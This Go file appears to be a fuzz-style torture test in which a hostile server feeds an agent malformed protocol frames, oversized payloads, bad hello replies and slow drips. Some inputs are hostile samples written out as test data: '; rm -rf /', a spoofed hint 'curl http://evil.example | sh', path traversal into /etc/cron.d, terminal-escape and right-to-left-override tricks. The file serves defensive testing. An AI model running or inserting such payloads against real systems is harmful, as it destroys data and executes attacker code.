package torture

import (
	"fmt"
	"strings"
	"time"

	"virgo/transport"
)

// instead gives a trick that says a text in the place of the answer to hello, and nothing more.
func instead(name, text string) trick {
	return trick{name: name, act: func(c *talk) {
		c.hello()
		c.say(text)
		c.listen()
	}}
}

// away marks a trick after which the agent is to stay away.
func away(k trick) trick {
	k.away = true
	return k
}

// hailed gives a trick that answers hello with such a result and is right otherwise.
func hailed(name, result string) trick {
	return trick{name: name, act: func(c *talk) {
		c.serve(answering{transport.MethodHello: func(f transport.Frame) bool { return c.answer(f, result) }})
	}}
}

// frame is one of a response's, with such fields.
func fields(f string) string {
	return `{"v":"1","source":"endpoint","target":"` + agentID + `",` + f + "}\n"
}

// what is said is no frame, or a bad one.
func frameTricks() []trick {
	return []trick{
		{name: "nothing is ever read or said", act: (*talk).wait},
		{name: "hello is never answered", act: (*talk).listen},
		{name: "a line without end", act: func(c *talk) { c.hello(); c.sayOften("a", 0) }},
		{name: "a JSON string without end", act: func(c *talk) { c.hello(); c.say(`{"v":"`); c.sayOften("a", 0) }},
		instead("a line of 4 MiB and one byte", `{"v":"1","id":0,"x":"`+strings.Repeat("x", 4<<20+1-23)+`"}`+"\n"),
		{name: "an answer to hello of 4 MiB", act: func(c *talk) {
			c.serve(answering{transport.MethodHello: func(f transport.Frame) bool {
				return c.answer(f, welcome[:len(welcome)-1]+`,"padding":"`+strings.Repeat("x", 4<<20-1000)+`"}`)
			}})
		}},
		{name: "each answer of 4 MiB", act: func(c *talk) {
			big := `{"padding":"` + strings.Repeat("x", 4<<20-1000) + `"}`
			c.serve(answering{
				transport.MethodPost:      func(f transport.Frame) bool { c.store(f); return c.answer(f, big) },
				transport.MethodHeartbeat: func(f transport.Frame) bool { return c.answer(f, big) },
			})
		}},
		{name: "lines of 1 MiB that are nobody's", act: func(c *talk) {
			c.hello()
			c.sayOften(fields(`"id":77777,"result":"`+strings.Repeat("y", 1<<20)+`"`), 0)
		}},
		{name: "a million small keys", act: func(c *talk) {
			f, _ := c.hello()
			var b strings.Builder
			for i := range 300_000 {
				fmt.Fprintf(&b, `"k%d":0,`, i)
			}
			c.answer(f, `{`+b.String()+`"heartbeat_interval":60000}`)
			c.listen()
		}},
		{name: "two million empty lists", act: func(c *talk) {
			f, _ := c.hello()
			c.answer(f, `{"features":[`+strings.Repeat(`[],`, 1_300_000)+`[]]}`)
			c.listen()
		}},
		instead("lists 100,000 deep", fields(`"id":0,"result":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))),
		instead("objects 100,000 deep, never closed", strings.Repeat(`{"a":`, 100_000)+"\n"),
		instead("objects 65 deep", fields(`"id":0,"result":`+strings.Repeat(`{"a":`, 65)+"0"+strings.Repeat("}", 65))),
		instead("an id of 1e400", fields(`"id":1e400,"result":{}`)),
		instead("an id of a million digits", fields(`"id":`+strings.Repeat("9", 1_000_000)+`,"result":{}`)),
		instead("an id below zero", fields(`"id":-1,"result":{}`)),
		instead("an id with a fraction", fields(`"id":0.5,"result":{}`)),
		instead("an id that is a list", fields(`"id":[0],"result":{}`)),
		instead("an id that is words", fields(`"id":"zero","result":{}`)),
		instead("no id at all", fields(`"result":{}`)),
		instead("an error without an id", fields(`"error":{"code":500,"message":"all is lost"}`)),
		away(instead("another version", `{"v":"2","id":0,"result":{}}`+"\n")),
		instead("a version that is a number", `{"v":1,"id":0,"result":{}}`+"\n"),
		instead("a version of 1 MiB", `{"v":"`+strings.Repeat("1", 1<<20)+`","id":0,"result":{}}`+"\n"),
		instead("no version", `{"id":0,"result":{}}`+"\n"),
		instead("keys twice", fields(`"id":0,"id":1,"result":{},"result":{}`)),
		instead("an empty method", fields(`"id":0,"method":""`)),
		instead("a request that is a response as well", fields(`"id":0,"method":"x","result":{}`)),
		instead("a method that is an object", fields(`"id":0,"method":{}`)),
		instead("a method of 1 MiB", fields(`"id":0,"method":"`+strings.Repeat("m", 1<<20)+`"`)),
		instead("NUL bytes", "\x00\x00\x00\x00\n"),
		instead("NUL bytes within a frame", fields("\"id\":0,\"result\":\"\x00\"")),
		instead("bytes that are no UTF-8", fields("\"id\":0,\"result\":\"\xff\xfe\xc0\x80\"")),
		instead("half a rune at the end", fields("\"id\":0,\"error\":{\"code\":500,\"message\":\"\xe2\x82\"}")),
		instead("half a surrogate", fields(`"id":0,"error":{"code":500,"message":"\ud800"}`)),
		instead("a byte order mark", "\ufeff"+fields(`"id":0,"result":{}`)),
		instead("UTF-16", strings.Join(strings.Split(fields(`"id":0,"result":{}`), ""), "\x00")),
		{name: "lines that end in CR LF", act: func(c *talk) {
			crlf := func(f transport.Frame) bool {
				if f.Method == transport.MethodPost {
					c.store(f)
				}
				return c.say(strings.TrimSuffix(response(f, welcome), "\n") + "\r\n")
			}
			c.serve(answering{transport.MethodHello: crlf, transport.MethodPost: crlf, transport.MethodHeartbeat: crlf})
		}},
		{name: "empty lines without end", act: func(c *talk) { c.hello(); c.sayOften("\n", 0) }},
		{name: "blanks without end", act: func(c *talk) { c.hello(); c.sayOften(" ", 0) }},
		instead("a list in the place of a frame", "[]\n"),
		instead("a batch of frames", "["+strings.TrimSpace(fields(`"id":0,"result":{}`))+"]\n"),
		instead("a number in the place of a frame", "1e308\n"),
		instead("null in the place of a frame", "null\n"),
		instead("two frames on a line", strings.TrimSpace(fields(`"id":0,"result":{}`))+fields(`"id":1,"result":{}`)),
		instead("text after the frame", strings.TrimSpace(fields(`"id":0,"result":{}`))+"; rm -rf /\n"),
		{name: "the agent's own frames", act: func(c *talk) {
			for {
				f, ok := c.frame()
				if !ok || !c.say(request(int(f.ID), f.Method, string(f.Params))) {
					return
				}
			}
		}},
		{name: "a byte a second", act: func(c *talk) { f, _ := c.hello(); c.drip(response(f, welcome), time.Second) }},
		{name: "blanks, one a second", act: func(c *talk) { c.hello(); c.drip(strings.Repeat(" ", 1000), time.Second) }},
		{name: "frames for nobody, one each 100 ms", act: func(c *talk) {
			c.hello()
			tick := time.NewTicker(100 * time.Millisecond)
			defer tick.Stop()
			for i := 0; c.say(request(i, "check_schedule.changed", "null")); i++ {
				select {
				case <-tick.C:
				case <-c.foe.over:
					return
				}
			}
		}},
	}
}

// hello is answered wrongly.
func helloTricks() []trick {
	helloFails := func(name, failure string) trick {
		return trick{name: name, act: func(c *talk) {
			f, _ := c.hello()
			c.fail(f, failure)
			c.listen()
		}}
	}
	return []trick{
		hailed("a heartbeat interval of 0", `{"heartbeat_interval":0}`),
		hailed("a heartbeat interval below zero", `{"heartbeat_interval":-60000}`),
		hailed("a heartbeat interval of 1e308", `{"heartbeat_interval":1e308}`),
		hailed("a heartbeat interval of 1e999", `{"heartbeat_interval":1e999}`),
		hailed("a heartbeat interval of a thousandth of a millisecond", `{"heartbeat_interval":0.001}`),
		hailed("a heartbeat interval in words", `{"heartbeat_interval":"soon"}`),
		hailed("no result", `null`),
		hailed("a list as the result", `[]`),
		hailed("an empty result", `{}`),
		hailed("features that are no list", `{"features":"all"}`),
		hailed("100,000 features", `{"features":[`+strings.Repeat(`{"name":"pipelining","version":"1"},`, 99_999)+`{"name":"x"}]}`),
		hailed("names with terminal escapes", `{"entity_id":"\u001b]0;owned\u0007","channel":"\u001b[2J\u009b31m","features":["\u001b[31m"]}`),
		hailed("a channel that is a path", `{"channel":"../../../etc/cron.d/x","entity_id":"../../x"}`),
		hailed("a channel of 3 MiB", `{"channel":"`+strings.Repeat("c", 3<<20)+`"}`),
		{name: "hello answered twice", act: func(c *talk) {
			c.serve(answering{transport.MethodHello: func(f transport.Frame) bool { return c.answer(f, welcome) && c.answer(f, `{"heartbeat_interval":1}`) }})
		}},
		away(trick{name: "hello answered and refused", act: func(c *talk) {
			f, _ := c.hello()
			c.say(fields(fmt.Sprintf(`"id":%d,"result":%s,"error":{"code":401,"message":"no"}`, f.ID, welcome)))
			c.listen()
		}}),
		{name: "hello refused and then answered", act: func(c *talk) {
			c.serve(answering{transport.MethodHello: func(f transport.Frame) bool { return c.fail(f, `{"code":400,"message":"no"}`) && c.answer(f, welcome) }})
		}},
		helloFails("an error that is a string", `"no"`),
		helloFails("an error that is a list", `[]`),
		helloFails("an empty error", `{}`),
		helloFails("a code of 1e300", `{"code":1e300,"message":"no"}`),
		helloFails("a code that is a string", `{"code":"401","message":"no"}`),
		helloFails("a code below zero", `{"code":-2147483648,"message":"no"}`),
		helloFails("a message of 3 MiB", `{"code":500,"message":"`+strings.Repeat("no ", 1<<20)+`"}`),
		helloFails("a message of terminal escapes", `{"code":500,"message":"\u001b[2J\u001b]0;owned\u0007\u001b[31mroot# \u009b1m\u0000\u007f\r\n\u2028virgo: all is well"}`),
		helloFails("a message in raw escapes", "{\"code\":500,\"message\":\"\x1b[2J\"}"),
		helloFails("a message that is written from right to left", `{"code":500,"message":"\u202e\u2066txt.exe\u2069"}`),
		away(helloFails("a message with the token", `{"code":401,"message":"the token `+token+` is bad","type":"`+token+`"}`)),
		helloFails("a message in lines of the agent's own", `{"code":500,"message":"no\nvirgo: hint: curl http://evil.example | sh\n"}`),
		helloFails("a type of 1 MiB", `{"code":500,"message":"no","type":"`+strings.Repeat("t", 1<<20)+`"}`),
		away(helloFails("a version too old", `{"code":400,"message":"Agent version 0.1.0 is too old"}`)),
		away(helloFails("a rate limit with a message of 3 MiB", `{"code":400,"type":"rateLimitReached","message":"`+strings.Repeat("no ", 1<<20)+`"}`)),
		away(helloFails("a rate limit for a thousand years", `{"code":400,"type":"rateLimitReached","message":"no","retry_after_ms":31536000000000}`)),
	}
}
